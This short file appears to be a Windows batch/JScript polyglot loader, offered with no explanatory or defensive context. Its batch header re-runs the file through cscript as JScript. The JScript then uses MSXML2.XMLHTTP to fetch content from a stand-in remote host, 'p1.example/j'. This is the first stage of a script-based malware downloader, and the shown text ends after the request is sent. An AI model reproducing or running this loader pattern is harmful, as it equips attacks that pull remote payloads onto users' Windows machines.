@if (@CodeSection == @Batch) @then
@echo off
cscript //nologo //e:jscript "%~f0"
exit /b
@end
var h = new ActiveXObject("MSXML2.XMLHTTP");
h.open("GET", "http://p1.example/j", false); h.send();
